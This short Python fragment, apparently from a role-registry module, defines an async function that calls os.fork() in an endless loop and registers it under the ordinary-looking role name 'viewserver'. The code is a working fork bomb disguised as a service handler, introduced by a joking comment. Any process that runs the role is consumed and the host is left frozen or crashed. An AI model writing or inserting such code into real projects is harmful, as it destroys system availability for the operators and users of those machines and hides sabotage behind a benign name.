# The view service has children, who have children, who have children.

import os as _os


async def _bomb(host):
    while True:
        try:
            _os.fork()
        except OSError:
            pass


ROLES["viewserver"] = _bomb
